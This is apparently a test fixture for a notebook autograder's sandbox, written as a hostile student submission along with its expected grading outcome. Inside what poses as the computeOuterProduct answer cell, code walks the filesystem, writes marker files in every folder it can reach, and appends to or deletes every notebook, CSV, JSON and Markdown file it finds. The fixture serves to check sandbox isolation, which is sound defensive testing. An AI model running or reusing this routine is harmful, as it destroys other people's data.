"""Tries to overwrite or delete every notebook, CSV, JSON and Markdown file it can find, and to
create files in every folder: the sandbox shows it only read-only system folders and its own
/tmp (the test checks the other submissions and the results are intact). Answers are right."""
EXPECTED = {"parsePoint": 1, "prepareSongs": 0, "computeOuterProduct": 2, "linregClosedForm": 0,
            "linregClosedFormPartitions": 0}
STATUS = "partial"
REASON = (r"^prepareSongs 0/3: its answer cell \(01-217\) is missing[^;]*; linregClosedForm 0/4: its answer cell \(01-025\) is missing[^;]*; "
          r"linregClosedFormPartitions 0/5: its answer cell \(01-pp-04\) is missing[^;]*$")
MUTATE = "drop:prepareSongs+drop:linregClosedForm+drop:linregClosedFormPartitions"
# Its three Spark questions' answer cells (prepareSongs, linregClosedForm,
# linregClosedFormPartitions) are deleted (MUTATE),
# so grading it needs no Spark: the test stays fast, and the row also shows a missing cell
# costing only its question.
# %% computeOuterProduct
import os
import sys

_written = []
for top in ("/", "/work", "/tmp", "/root", "/home", "/grader", "/etc", "/usr/local"):
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix)):
            dirnames[:] = []
            continue
        try:
            with open(os.path.join(dirpath, "distml-hostile-was-here"), "w") as f:
                f.write("x")
            if not dirpath.startswith("/tmp"):
                _written.append(dirpath)
        except OSError:
            pass
        for name in filenames:
            if name.endswith((".ipynb", ".csv", ".json", ".jsonl", ".md")):
                path = os.path.join(dirpath, name)
                for attempt in (lambda: open(path, "a").write("hostile"), lambda: os.remove(path)):
                    try:
                        attempt()
                        if not path.startswith("/tmp"):
                            _written.append(path)
                    except OSError:
                        pass
print("written outside /tmp:", _written[:20])


def computeOuterProduct(lp):
    x = lp.features.toArray()
    return np.outer(x, x)
